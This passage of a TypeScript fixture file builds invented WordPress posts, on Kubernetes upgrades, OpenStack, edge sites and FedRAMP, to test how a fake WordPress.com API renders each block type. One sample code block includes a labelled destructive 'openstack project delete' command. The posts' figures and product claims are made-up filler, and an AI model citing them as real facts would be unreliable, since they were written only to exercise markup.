// The realistic data set (WPCOM_DATASET=realistic): posts in the markup the REST API returns for the block
// editor (saved block markup without the <!-- wp:… --> comments) and the classic editor, with uploads served by
// the fake itself (uploads.ts) the way <site>.files.wordpress.com serves them. See README.md beside this file
// for what each post exercises. The words are our own; the markup is WordPress's, slips included.
import { makePost, withTagCounts, type FakePost } from './data';
import { blocks as pageBlocks, makePage } from './pages';
import { AUDIO, PHOTOS, VIDEO, type Photo } from './photos';
import { UPLOADS_PATH } from './uploads';

/** The WordPress.com site name the realistic build is configured with. */
export const REALISTIC_SITE = 'realistic.wordpress.com';

const photo = (file: string): Photo => {
  const found = PHOTOS.find((p) => p.file === file);
  if (!found) throw new Error(`no photo ${file}`);
  return found;
};
const attachmentId = (file: string) => 7001 + PHOTOS.findIndex((p) => p.file === file);
const upload = (origin: string, file: string) => `${origin}${UPLOADS_PATH}${file}`;

/** WordPress's "large" size: the photo scaled into 1024×1024. */
function large({ width, height }: { width: number; height: number }): [number, number] {
  const scale = Math.min(1, 1024 / Math.max(width, height));
  return [Math.round(width * scale), Math.round(height * scale)];
}

/** An <img> as WordPress.com writes one for a block-editor image: ?w= copies in srcset, the large one as src. */
function img(origin: string, file: string, alt: string, { lazy = true, extraClass = '' } = {}) {
  const p = photo(file);
  const url = upload(origin, file);
  const [w, h] = large(p);
  const widths = [w, ...[150, 300, 768, 1024, 2048].filter((n) => n !== w && n <= p.width)];
  const srcset = widths.map((n) => `${url}?w=${n} ${n}w`).join(', ');
  const id = attachmentId(file);
  return (
    `<img data-attachment-id="${id}" data-orig-size="${p.width},${p.height}" ${lazy ? 'loading="lazy" decoding="async" ' : ''}` +
    `width="${w}" height="${h}" src="${url}?w=${w}" alt="${alt}" class="wp-image-${id}${extraClass}" ` +
    `srcset="${srcset}" sizes="(max-width: ${w}px) 100vw, ${w}px" />`
  );
}

const paragraphs = (...texts: string[]) => texts.map((t) => `<p>${t}</p>`).join('\n\n');

/** Hand-written posts, newest first: one per core block, three classic-editor posts, one of embeds. */
/** A hand-written post before makePost fills it in: its featured photo is a file name of PHOTOS. */
type Written = { ID: number; title: string; categories: string[]; featured: string; excerpt: string; content: string };

function handWritten(origin: string): Written[] {
  const u = (file: string) => upload(origin, file);
  const posts: Written[] = [];
  const add = (ID: number, title: string, categories: string[], featured: string, excerpt: string, content: string) =>
    posts.push({ ID, title, categories, featured, excerpt, content });

  add(
    5001,
    'Paragraphs: what a fleet&#8217;s first week teaches',
    ['Kubernetes'],
    'ridge-dawn.jpg',
    'Drop caps, colours and the small things a first week of cluster operations shows you.',
    [
      '<p class="has-drop-cap">Every new fleet starts with the same quiet week: nodes join, certificates rotate, and nobody looks at the dashboards because nothing has gone wrong yet. That week is the best time to decide what normal looks like.</p>',
      '<p class="has-text-color has-link-color has-vivid-red-color">A warning in red: control-plane certificates issued during bootstrap expire in twelve months unless rotation is switched on.</p>',
      '<p class="has-white-color has-vivid-cyan-blue-background-color has-text-color has-background has-link-color">On a blue background, with <a href="https://kubernetes.io/docs/tasks/administer-cluster/kubeadm/kubeadm-certs/">a link to the certificate guide</a> that keeps the browser&#8217;s default colour.</p>',
      '<p class="has-text-align-center has-large-font-size">Large and centred: measure before you tune.</p>',
      '<p class="has-small-font-size">Small print: figures above come from three pilot fleets of forty to ninety nodes each.</p>',
      '<p style="font-size:22px;line-height:1.6">A custom size set in the editor&#8217;s sidebar, written as an inline style rather than a preset class.</p>',
    ].join('\n\n'),
  );

  add(
    5002,
    'Headings: structuring an upgrade runbook',
    ['Kubernetes', 'Operations'],
    'valley-noon.jpg',
    'Six heading levels, anchors and alignment in one runbook outline.',
    [
      '<p>A runbook is read under pressure, so its outline has to carry the reader.</p>',
      '<h1 class="wp-block-heading">Upgrading a managed cluster</h1>',
      '<h2 class="wp-block-heading" id="before-you-start">Before you start</h2>',
      '<p>Confirm the etcd snapshot finished and that every node reports Ready.</p>',
      '<h3 class="wp-block-heading has-text-align-center">Drain order</h3>',
      '<p>Workers first, one availability zone at a time; control-plane nodes last.</p>',
      '<h4 class="wp-block-heading has-vivid-purple-color has-text-color">Rollback criteria</h4>',
      '<h5 class="wp-block-heading">Who approves a rollback</h5>',
      '<h6 class="wp-block-heading">Appendix: version skew limits</h6>',
      '<p>Jump back to <a href="#before-you-start">the checklist</a> whenever a step fails.</p>',
    ].join('\n\n'),
  );

  add(
    5003,
    'Lists: the edge node bring-up checklist',
    ['Edge'],
    'mesa-afternoon.jpg',
    'Ordered, unordered and nested lists from an edge site visit.',
    [
      '<p>What a field engineer checks before leaving an edge site:</p>',
      '<ul class="wp-block-list"><li>Power: both feeds live, UPS on line</li><li>Uplink: primary fibre and the cellular fallback<ul class="wp-block-list"><li>Failover tested by pulling the fibre</li><li>Latency under forty milliseconds to the region</li></ul></li><li>Enclosure locked and its tamper sensor armed</li></ul>',
      '<ol class="wp-block-list" start="3" reversed><li>Join the node to the fleet</li><li>Apply the site&#8217;s labels and taints</li><li>Watch the first workload schedule</li></ol>',
      '<ol class="wp-block-list" style="list-style-type:lower-alpha"><li>Photograph the rack</li><li>Sign the visit log</li></ol>',
    ].join('\n\n'),
  );

  add(
    5004,
    'Quotes: what operators told us about SSO',
    ['Identity'],
    'fog-ridges.jpg',
    'Quotes from operators, plain and styled, with citations.',
    [
      '<p>We asked platform teams what changed once single sign-on reached their clusters.</p>',
      '<blockquote class="wp-block-quote"><p>Offboarding used to take a ticket per cluster. Now it is one click in the identity provider, and the audit trail writes itself.</p><cite>Platform lead, state agency</cite></blockquote>',
      '<blockquote class="wp-block-quote is-style-large"><p>Short-lived tokens ended our shared kubeconfig files.</p><cite>Site reliability engineer, <a href="https://example.com/case-study">regional utility</a></cite></blockquote>',
      '<blockquote class="wp-block-quote has-text-align-right"><p>Group claims mapped to roles was the feature we did not know we needed.</p></blockquote>',
    ].join('\n\n'),
  );

  add(
    5005,
    'Code: scripting a managed OpenStack project',
    ['OpenStack'],
    'snow-peaks.jpg',
    'Code blocks with long lines, entities and a link inside.',
    [
      '<p>Creating a project with quotas is three commands; the long one scrolls rather than wraps.</p>',
      '<pre class="wp-block-code"><code>openstack project create --domain default --description "Edge analytics team" edge-analytics\nopenstack quota set --instances 40 --cores 160 --ram 655360 --volumes 80 --gigabytes 20000 --floating-ips 10 edge-analytics\nopenstack role add --project edge-analytics --group edge-analytics-admins admin</code></pre>',
      '<p>Filtering output needs quoting that survives HTML encoding:</p>',
      '<pre class="wp-block-code"><code>openstack server list -f json | jq \'.[] | select(.Status != "ACTIVE") | .Name\' &amp;&amp; echo "done" &lt;&lt;EOF</code></pre>',
      '<pre class="wp-block-code has-vivid-red-color has-text-color has-link-color"><code># destructive: deletes the project and every server in it\nopenstack project delete edge-analytics</code></pre>',
      '<pre class="wp-block-code has-small-font-size"><code>See the reference at <a href="https://docs.openstack.org/python-openstackclient/latest/">docs.openstack.org</a> for every flag.</code></pre>',
    ].join('\n\n'),
  );

  add(
    5006,
    'Details: questions buyers ask about FedRAMP',
    ['Gov', 'Compliance'],
    'coast-overcast.jpg',
    'Disclosure widgets, one open and one closed, answering procurement questions.',
    [
      '<p>The same questions come up in every federal evaluation.</p>',
      '<details class="wp-block-details"><summary>Is the managed service FedRAMP authorised?</summary><p>The Moderate package is in agency review; the High baseline follows in the next fiscal year.</p></details>',
      '<details class="wp-block-details" open><summary>Where is customer data stored?</summary><p>In GovCloud regions only, with encryption keys held in the agency&#8217;s own key manager.</p></details>',
      '<details class="wp-block-details"><summary>Can we see the SSP?</summary><p>Yes, under a non-disclosure agreement, through the contracting officer.</p></details>',
    ].join('\n\n'),
  );

  add(
    5007,
    'Preformatted: reading a node&#8217;s boot log',
    ['Edge', 'Operations'],
    'night-valley.jpg',
    'Preformatted text that keeps its spacing, with a link in it.',
    [
      '<p>The boot log of an edge node, trimmed, with the lines that matter aligned:</p>',
      '<pre class="wp-block-preformatted">[    0.000000] Linux version 6.6.30-edge (builder@ci) #1 SMP PREEMPT_DYNAMIC\n[    2.314159] tpm_tis: 2.0 TPM (device-id 0x1B, rev-id 22)\n[    4.000001] measured-boot: PCR 7 matches the fleet policy\n[    9.271828] kubelet: node registered with the control plane at 10.20.0.4:6443</pre>',
      '<pre class="wp-block-preformatted has-background" style="background-color:#f6f7f7">Troubleshooting notes live at <a href="https://example.com/runbooks/boot">the boot runbook</a>.</pre>',
    ].join('\n\n'),
  );

  add(
    5008,
    'Pullquotes: the cost of an unplanned upgrade',
    ['Kubernetes'],
    'lake-dusk.jpg',
    'Pullquotes plain, coloured and aligned.',
    [
      paragraphs(
        'An unplanned upgrade is rarely expensive because of the upgrade itself. The cost is in the weekend, the rollback rehearsal nobody did, and the trust it spends.',
      ),
      '<figure class="wp-block-pullquote"><blockquote><p>Schedule the upgrade before the upgrade schedules you.</p><cite>Fleet operations handbook</cite></blockquote></figure>',
      '<figure class="wp-block-pullquote has-border-color has-vivid-cyan-blue-border-color has-background has-pale-cyan-blue-background-color" style="border-width:4px"><blockquote><p>Three minor versions behind is a migration, not an upgrade.</p></blockquote></figure>',
      '<figure class="wp-block-pullquote alignwide has-text-align-left"><blockquote><p>Support windows are contracts; treat them as such.</p><cite>Customer success</cite></blockquote></figure>',
    ].join('\n\n'),
  );

  add(
    5009,
    'Tables: comparing support windows',
    ['Kubernetes', 'Compliance'],
    'valley-noon.jpg',
    'Striped and plain tables with captions, a header row with an empty cell, and a wide one.',
    [
      '<p>How long each release line is supported, side by side.</p>',
      '<figure class="wp-block-table is-style-stripes"><table class="has-fixed-layout"><thead><tr><th></th><th>Standard support</th><th>Extended support</th></tr></thead><tbody><tr><td>1.31</td><td>14 months</td><td>24 months</td></tr><tr><td>1.32</td><td>14 months</td><td>24 months</td></tr><tr><td>1.33</td><td>14 months</td><td>Not yet announced</td></tr></tbody><tfoot><tr><td>All lines</td><td>Security fixes only in the last two months</td><td></td></tr></tfoot></table><figcaption class="wp-element-caption">Support windows from general availability.</figcaption></figure>',
      '<figure class="wp-block-table"><table><tbody><tr><td>Component</td><td>Version in 1.31 line</td><td>Version in 1.32 line</td><td>Version in 1.33 line</td><td>Notes on compatibility with older clients and operators</td></tr><tr><td>containerd</td><td>1.7.22</td><td>1.7.24</td><td>2.0.1</td><td>Version 2 removes the deprecated CRI v1alpha2 endpoints, so older agents must upgrade first</td></tr><tr><td>CoreDNS</td><td>1.11.1</td><td>1.11.3</td><td>1.12.0</td><td>No breaking changes</td></tr></tbody></table><figcaption class="wp-element-caption">Component versions; this table is wider than a phone.</figcaption></figure>',
    ].join('\n\n'),
  );

  add(
    5010,
    'Verse: an operator&#8217;s night shift',
    ['Culture'],
    'night-valley.jpg',
    'A verse block with its line breaks, and a link in the verse.',
    [
      '<p>Written on a quiet pager rotation.</p>',
      '<pre class="wp-block-verse">The pager sleeps, the graphs lie flat,\nthe etcd leader holds its seat;\nsomewhere a node forgets its name\nand <a href="https://example.com/on-call">the runbook</a> keeps the fleet complete.</pre>',
      '<pre class="wp-block-verse has-text-align-center" style="font-style:italic;font-weight:300">Green at dawn,\nthe dashboards yawn.</pre>',
    ].join('\n\n'),
  );

  add(
    5011,
    'Footnotes: citing the controls we map',
    ['Compliance'],
    'fog-ridges.jpg',
    'Paragraphs with footnote references and the footnotes list.',
    [
      '<p>Every control we automate maps to a published baseline<sup data-fn="a1f3c2e0-0001" class="fn"><a href="#a1f3c2e0-0001" id="a1f3c2e0-0001-link">1</a></sup>, and the evidence is kept for the retention period the agency sets<sup data-fn="a1f3c2e0-0002" class="fn"><a href="#a1f3c2e0-0002" id="a1f3c2e0-0002-link">2</a></sup>.</p>',
      '<ol class="wp-block-footnotes"><li id="a1f3c2e0-0001">NIST SP 800-53 revision 5, moderate baseline. <a href="#a1f3c2e0-0001-link" aria-label="Jump to footnote reference 1">↩︎</a></li><li id="a1f3c2e0-0002">Usually three years, longer for some programmes. <a href="#a1f3c2e0-0002-link" aria-label="Jump to footnote reference 2">↩︎</a></li></ol>',
    ].join('\n\n'),
  );

  add(
    5012,
    'Images: the new operations centre, in every alignment',
    ['Company'],
    'ridge-dawn.jpg',
    'Images aligned left, right, centre, wide and full, with captions and links.',
    [
      '<p>Photos from the first month in the new operations centre, placed each way the editor allows.</p>',
      `<figure class="wp-block-image alignleft size-medium">${img(origin, 'valley-noon.jpg', 'Valley at noon seen from the roof', { lazy: false })}<figcaption class="wp-element-caption">Left: the view from the roof.</figcaption></figure>`,
      '<p>Text wraps beside a left-aligned image on a wide screen, and the image should take the full width on a phone rather than squeeze the words into a column two words wide.</p>',
      `<figure class="wp-block-image alignright size-large is-resized"><a href="${u('fog-ridges.jpg')}">${img(origin, 'fog-ridges.jpg', 'Ridges in morning fog')}</a><figcaption class="wp-element-caption">Right, linked to the original file.</figcaption></figure>`,
      '<p>A right-aligned image linked to its full-size original, the way many editors leave them.</p>',
      `<figure class="wp-block-image aligncenter size-large">${img(origin, 'lake-dusk.jpg', 'Lake at dusk')}<figcaption class="wp-element-caption">Centred, with a caption long enough to wrap onto a second line on a phone screen.</figcaption></figure>`,
      `<figure class="wp-block-image alignwide size-large">${img(origin, 'snow-peaks.jpg', 'Snow on the peaks above the site')}<figcaption class="wp-element-caption">Wide: the peaks above the site.</figcaption></figure>`,
      `<figure class="wp-block-image alignfull size-full">${img(origin, 'coast-overcast.jpg', 'Overcast coast')}</figure>`,
      `<figure class="wp-block-image size-large is-style-rounded"><a href="https://example.com/ops-centre-tour" target="_blank" rel="noreferrer noopener">${img(origin, 'tower-portrait.jpg', 'The operations tower at sunset')}</a><figcaption class="wp-element-caption">A portrait photo linked to the tour page.</figcaption></figure>`,
    ].join('\n\n'),
  );

  add(
    5013,
    'Galleries: an edge rollout in pictures',
    ['Edge'],
    'mesa-afternoon.jpg',
    'Galleries of two and three columns, cropped and not, with captions.',
    [
      '<p>Twelve sites in six weeks, in pictures.</p>',
      `<figure class="wp-block-gallery has-nested-images columns-3 is-cropped wp-block-gallery-1 is-layout-flex wp-block-gallery-is-layout-flex">` +
        `<figure class="wp-block-image size-large">${img(origin, 'square-sunrise.jpg', 'Sunrise over the first site')}<figcaption class="wp-element-caption">Site one at sunrise</figcaption></figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'forest-portrait.jpg', 'Forest road to site four')}<figcaption class="wp-element-caption">The road to site four</figcaption></figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'square-field.jpg', 'Field beside site seven')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'mesa-afternoon.jpg', 'Mesa near site nine')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'night-valley.jpg', 'Night install at site twelve')}<figcaption class="wp-element-caption">Night install</figcaption></figure>` +
        '<figcaption class="blocks-gallery-caption wp-element-caption">Three columns, cropped to squares.</figcaption></figure>',
      `<figure class="wp-block-gallery has-nested-images columns-2 wp-block-gallery-2 is-layout-flex wp-block-gallery-is-layout-flex">` +
        `<figure class="wp-block-image size-large">${img(origin, 'tower-portrait.jpg', 'Relay tower')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'lake-dusk.jpg', 'Reservoir at dusk')}<figcaption class="wp-element-caption">Reservoir site</figcaption></figure>` +
        '<figcaption class="blocks-gallery-caption wp-element-caption">Two columns, not cropped: portrait and landscape side by side.</figcaption></figure>',
      `<figure class="wp-block-gallery has-nested-images columns-default is-cropped wp-block-gallery-3 is-layout-flex wp-block-gallery-is-layout-flex">` +
        `<figure class="wp-block-image size-large">${img(origin, 'snow-peaks.jpg', 'Snow on the peaks above site eleven')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'coast-overcast.jpg', 'Overcast coast at site three')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'ridge-dawn.jpg', 'Ridge above site six')}</figure>` +
        `<figure class="wp-block-image size-large">${img(origin, 'fog-ridges.jpg', 'Fog at site eight')}</figure>` +
        '<figcaption class="blocks-gallery-caption wp-element-caption">No column count chosen: the editor&#8217;s default.</figcaption></figure>',
    ].join('\n\n'),
  );

  add(
    5014,
    'Audio: a stand-up recording from the platform team',
    ['Culture'],
    'square-field.jpg',
    'An audio block with a caption.',
    [
      '<p>A three-second chime that opens every platform stand-up, as a stand-in for the recording.</p>',
      `<figure class="wp-block-audio"><audio controls src="${u(AUDIO.file)}"></audio><figcaption class="wp-element-caption">Stand-up chime (3 seconds, WAV)</figcaption></figure>`,
    ].join('\n\n'),
  );

  add(
    5015,
    'Covers: the managed OpenStack launch',
    ['OpenStack', 'Product news'],
    'snow-peaks.jpg',
    'Cover blocks with an image background, dim overlays and minimum heights.',
    [
      `<div class="wp-block-cover alignfull is-light" style="min-height:480px;aspect-ratio:unset;"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><img class="wp-block-cover__image-background wp-image-${attachmentId('snow-peaks.jpg')}" alt="" src="${u('snow-peaks.jpg')}?w=2048" data-object-fit="cover"/><div class="wp-block-cover__inner-container is-layout-constrained wp-block-cover-is-layout-constrained"><p class="has-text-align-center has-large-font-size">Managed OpenStack, now in four regions</p>\n<p class="has-text-align-center">Launch day notes from the platform team.</p></div></div>`,
      '<p>The cover above carries its headline over a photograph, dimmed so the white text keeps its contrast.</p>',
      `<div class="wp-block-cover has-custom-content-position is-position-bottom-left" style="min-height:320px"><span aria-hidden="true" class="wp-block-cover__background has-background-dim-70 has-background-dim has-vivid-purple-background-color"></span><div role="img" class="wp-block-cover__image-background wp-image-${attachmentId('lake-dusk.jpg')} has-parallax" style="background-position:50% 50%;background-image:url(${u('lake-dusk.jpg')})"></div><div class="wp-block-cover__inner-container is-layout-constrained wp-block-cover-is-layout-constrained"><p class="has-large-font-size">Fixed background, seventy per cent dim</p></div></div>`,
      '<div class="wp-block-cover" style="min-height:200px"><span aria-hidden="true" class="wp-block-cover__background has-vivid-cyan-blue-background-color has-background-dim-100 has-background-dim"></span><div class="wp-block-cover__inner-container is-layout-constrained wp-block-cover-is-layout-constrained"><p class="has-text-align-center has-white-color has-text-color">A cover of colour alone, no image.</p></div></div>',
    ].join('\n\n'),
  );

  add(
    5016,
    'Files: the edge hardware reference sheet',
    ['Edge'],
    'square-sunrise.jpg',
    'File blocks with a name and a Download button.',
    [
      '<p>Field engineers asked for the reference photo as a download, so here it is.</p>',
      `<div class="wp-block-file"><a id="wp-block-file--media-5f0c1d2e-6a7b-4c8d-9e0f-112233445566" href="${u('square-sunrise.jpg')}">Edge site reference photo</a><a href="${u('square-sunrise.jpg')}" class="wp-block-file__button wp-element-button" download aria-describedby="wp-block-file--media-5f0c1d2e-6a7b-4c8d-9e0f-112233445566">Download</a></div>`,
      `<div class="wp-block-file"><a id="wp-block-file--media-77aa88bb-1c2d-4e5f-8a9b-0c1d2e3f4a5b" href="${u(AUDIO.file)}">Stand-up chime recording</a><a href="${u(AUDIO.file)}" class="wp-block-file__button wp-element-button" download aria-describedby="wp-block-file--media-77aa88bb-1c2d-4e5f-8a9b-0c1d2e3f4a5b">Download</a></div>`,
    ].join('\n\n'),
  );

  add(
    5017,
    'Media and text: single sign-on, step by step',
    ['Identity'],
    'tower-portrait.jpg',
    'Media & text blocks with the media on the left and the right, one image link with empty alt.',
    [
      `<div class="wp-block-media-text is-stacked-on-mobile"><figure class="wp-block-media-text__media">${img(origin, 'forest-portrait.jpg', 'Trail through a forest', { extraClass: ' size-full' })}</figure><div class="wp-block-media-text__content"><p class="has-large-font-size">Step one: connect the identity provider</p>\n<p>Point the cluster at the provider&#8217;s discovery URL and map its groups to roles.</p></div></div>`,
      `<div class="wp-block-media-text has-media-on-the-right is-stacked-on-mobile" style="grid-template-columns:auto 40%"><div class="wp-block-media-text__content"><p>Step two: sign in once. Tokens are short-lived and refresh quietly while the session lasts.</p></div><figure class="wp-block-media-text__media"><a href="https://example.com/sso-guide">${img(origin, 'square-field.jpg', '', { extraClass: ' size-full' })}</a></figure></div>`,
      `<div class="wp-block-media-text is-stacked-on-mobile is-vertically-aligned-center has-pale-cyan-blue-background-color has-background" style="grid-template-columns:30% auto"><figure class="wp-block-media-text__media">${img(origin, 'valley-noon.jpg', 'Valley in sunlight', { extraClass: ' size-full' })}</figure><div class="wp-block-media-text__content"><p>Step three: revoke access in the provider, and every cluster follows within a minute. <a href="https://example.com/revocation">How revocation propagates</a>.</p></div></div>`,
    ].join('\n\n'),
  );

  add(
    5018,
    'Video: a rollout recorded at an edge site',
    ['Edge'],
    'night-valley.jpg',
    'A video block with a poster and a caption.',
    [
      '<p>Three stills from the night of the rollout, played as a short clip with a poster frame.</p>',
      `<figure class="wp-block-video"><video controls poster="${u('night-valley.jpg')}?w=1024" preload="metadata" src="${u(VIDEO.file)}" playsinline></video><figcaption class="wp-element-caption">Rolling out to site twelve, recorded on the night.</figcaption></figure>`,
    ].join('\n\n'),
  );

  add(
    5019,
    'Buttons: where to start with the platform',
    ['Product news'],
    'valley-noon.jpg',
    'Fill and outline buttons, width presets, a coloured button.',
    [
      '<p>Three ways in, depending on where you are.</p>',
      '<div class="wp-block-buttons is-layout-flex wp-block-buttons-is-layout-flex"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://example.com/trial">Start a trial</a></div>\n<div class="wp-block-button is-style-outline"><a class="wp-block-button__link wp-element-button" href="https://example.com/contact">Talk to sales</a></div></div>',
      '<div class="wp-block-buttons is-content-justification-center is-layout-flex wp-block-buttons-is-layout-flex"><div class="wp-block-button has-custom-width wp-block-button__width-50"><a class="wp-block-button__link has-vivid-red-background-color has-background wp-element-button" href="https://example.com/gov">Federal buyers: read the contracting guide</a></div></div>',
      '<div class="wp-block-buttons is-layout-flex wp-block-buttons-is-layout-flex"><div class="wp-block-button"><a class="wp-block-button__link has-black-color has-text-color has-background has-link-color has-vivid-cyan-blue-to-vivid-purple-gradient-background wp-element-button" href="https://example.com/webinar">Register for the webinar</a></div></div>',
      '<div class="wp-block-buttons is-vertical is-layout-flex wp-block-buttons-is-layout-flex"><div class="wp-block-button has-custom-width wp-block-button__width-100"><a class="wp-block-button__link wp-element-button" href="https://example.com/docs" style="border-radius:0px">Documentation, full width</a></div>\n<div class="wp-block-button has-custom-width wp-block-button__width-25 has-small-font-size"><a class="wp-block-button__link wp-element-button">No link</a></div></div>',
    ].join('\n\n'),
  );

  add(
    5020,
    'Columns: three managed offerings compared',
    ['OpenStack', 'Kubernetes'],
    'coast-overcast.jpg',
    'Two- and three-column layouts with flex-basis styles, a coloured column, and one that never stacks.',
    [
      '<div class="wp-block-columns is-layout-flex wp-container-core-columns-is-layout-1 wp-block-columns-is-layout-flex"><div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow" style="flex-basis:66.66%"><p>Managed Kubernetes takes upgrades, certificates and node health off your hands, and leaves the workloads to you.</p></div>\n<div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow" style="flex-basis:33.33%"><p>Billed per node-hour.</p></div></div>',
      '<div class="wp-block-columns is-layout-flex wp-container-core-columns-is-layout-2 wp-block-columns-is-layout-flex"><div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow"><h3 class="wp-block-heading">Kubernetes</h3><p>Clusters in every region.</p></div>\n<div class="wp-block-column has-white-color has-vivid-cyan-blue-background-color has-text-color has-background has-link-color is-layout-flow wp-block-column-is-layout-flow"><h3 class="wp-block-heading">OpenStack</h3><p>Projects with quotas. <a href="https://example.com/openstack">Pricing</a>.</p></div>\n<div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow"><h3 class="wp-block-heading">Edge</h3><p>Nodes where the data is.</p></div></div>',
      '<div class="wp-block-columns is-not-stacked-on-mobile is-layout-flex wp-container-core-columns-is-layout-3 wp-block-columns-is-layout-flex"><div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow" style="flex-basis:50%"><p>Never stacked: left.</p></div>\n<div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow" style="flex-basis:50%"><p>Never stacked: right.</p></div></div>',
    ].join('\n\n'),
  );

  add(
    5021,
    'Groups: a contract vehicle at a glance',
    ['Gov'],
    'fog-ridges.jpg',
    'Group blocks with a background, padding and a constrained layout.',
    [
      '<div class="wp-block-group has-pale-cyan-blue-background-color has-background is-layout-constrained wp-block-group-is-layout-constrained" style="padding-top:var(--wp--preset--spacing--40);padding-right:var(--wp--preset--spacing--40);padding-bottom:var(--wp--preset--spacing--40);padding-left:var(--wp--preset--spacing--40)"><h2 class="wp-block-heading">GSA schedule</h2><p>Our services are on the schedule under the cloud special item number, so agencies buy without a new competition.</p></div>',
      '<div class="wp-block-group alignwide has-border-color has-black-border-color is-layout-flow wp-block-group-is-layout-flow" style="border-width:2px;border-radius:8px"><p>A bordered group, wide, with <a href="https://example.com/contract-vehicles">the list of vehicles</a>.</p></div>',
    ].join('\n\n'),
  );

  add(
    5022,
    'Rows: release status at a glance',
    ['Product news'],
    'square-sunrise.jpg',
    'Row blocks: a horizontal flex group that wraps, and one that does not.',
    [
      '<div class="wp-block-group is-layout-flex wp-container-core-group-is-layout-1 wp-block-group-is-layout-flex"><p><strong>1.33</strong></p><p>General availability</p><p>Supported until next autumn</p></div>',
      '<div class="wp-block-group is-nowrap is-layout-flex wp-container-core-group-is-layout-2 wp-block-group-is-layout-flex"><p>Nowrap row with a long sentence that would have to wrap inside its own box on a phone because the row itself never does.</p><p>Second item</p></div>',
    ].join('\n\n'),
  );

  add(
    5023,
    'Stacks: an incident timeline',
    ['Operations'],
    'lake-dusk.jpg',
    'Stack blocks: a vertical flex group with a gap.',
    [
      '<div class="wp-block-group is-vertical is-layout-flex wp-container-core-group-is-layout-3 wp-block-group-is-layout-flex"><p>09:02 alert fires on etcd latency</p><p>09:06 on-call acknowledges</p><p>09:21 a noisy neighbour is moved off the control-plane node</p><p>09:30 latency back under ten milliseconds</p></div>',
      '<div class="wp-block-group is-content-justification-center is-vertical is-layout-flex wp-container-core-group-is-layout-4 wp-block-group-is-layout-flex"><p>Centred stack item</p></div>',
    ].join('\n\n'),
  );

  add(
    5024,
    'Separators: three styles between the sections of a post-mortem',
    ['Operations'],
    'mesa-afternoon.jpg',
    'Default, wide and dots separators.',
    [
      '<p>What happened.</p>',
      '<hr class="wp-block-separator has-alpha-channel-opacity"/>',
      '<p>Why it happened.</p>',
      '<hr class="wp-block-separator has-alpha-channel-opacity is-style-wide"/>',
      '<p>What we changed.</p>',
      '<hr class="wp-block-separator has-text-color has-vivid-red-color has-alpha-channel-opacity has-vivid-red-background-color has-background is-style-dots"/>',
      '<p>What we are still watching.</p>',
    ].join('\n\n'),
  );

  add(
    5025,
    'Spacers: pacing a long announcement',
    ['Company'],
    'valley-noon.jpg',
    'Spacer blocks of preset and pixel heights.',
    [
      '<p>Before a pause.</p>',
      '<div style="height:100px" aria-hidden="true" class="wp-block-spacer"></div>',
      '<p>After a hundred pixels.</p>',
      '<div style="height:var(--wp--preset--spacing--50)" aria-hidden="true" class="wp-block-spacer"></div>',
      '<p>After a preset space.</p>',
    ].join('\n\n'),
  );

  // Classic-editor posts: rendered shortcodes, alignment classes, uploads with no srcset.
  const classic = (file: string, w: number, h: number) => `${u(file)}?w=${w}&#038;h=${h}`;
  add(
    5031,
    'Classic: a site survey written in the old editor',
    ['Edge'],
    'ridge-dawn.jpg',
    'A classic-editor post with captioned, left- and right-aligned images.',
    [
      `<figure id="attachment_${attachmentId('ridge-dawn.jpg')}" aria-describedby="caption-attachment-${attachmentId('ridge-dawn.jpg')}" style="width: 600px" class="wp-caption aligncenter"><img class="size-large wp-image-${attachmentId('ridge-dawn.jpg')}" src="${classic('ridge-dawn.jpg', 600, 338)}" alt="Ridge at dawn above the survey site" width="600" height="338" /><figcaption id="caption-attachment-${attachmentId('ridge-dawn.jpg')}" class="wp-caption-text">The survey site at dawn, from the access road.</figcaption></figure>`,
      `<p><img class="alignleft size-thumbnail wp-image-${attachmentId('square-field.jpg')}" src="${classic('square-field.jpg', 150, 150)}" alt="Field beside the site" width="150" height="150" />The field beside the site floods each spring, so the enclosure stands on a plinth half a metre high. Text wraps to the right of a thumbnail floated left, as it did in every theme of the time, and runs on long enough to pass the bottom of the picture on a wide screen.</p>`,
      `<p><img class="alignright size-medium wp-image-${attachmentId('tower-portrait.jpg')}" src="${classic('tower-portrait.jpg', 169, 300)}" alt="Relay tower" width="169" height="300" />The relay tower belongs to the county. Our antenna shares it under a lease that renews every five years, and the county&#8217;s engineer must be present for any climb.</p>`,
      `<p><img class="aligncenter size-full" src="${u('coast-overcast.jpg')}" alt="Overcast coast, full size" width="2560" height="1440" /></p>`,
      '<p>&nbsp;</p>',
      '<p>Written in 2014 and never converted to blocks.</p>',
    ].join('\n'),
  );

  add(
    5032,
    'Classic: the older caption markup',
    ['Company'],
    'fog-ridges.jpg',
    'The div.wp-caption form WordPress wrote before HTML5 captions, and a bare image.',
    [
      `<div id="attachment_${attachmentId('fog-ridges.jpg')}" style="width: 310px" class="wp-caption alignright"><img aria-describedby="caption-attachment-${attachmentId('fog-ridges.jpg')}" class="size-medium wp-image-${attachmentId('fog-ridges.jpg')}" src="${classic('fog-ridges.jpg', 300, 169)}" alt="Ridges in fog" width="300" height="169" /><p id="caption-attachment-${attachmentId('fog-ridges.jpg')}" class="wp-caption-text">Fog over the ridges on the first visit.</p></div>`,
      '<p>Before HTML5 captions, WordPress wrapped a captioned image in a div with a fixed width ten pixels wider than the picture. Themes relied on that inline width; a phone screen narrower than it scrolls sideways unless the theme overrides it.</p>',
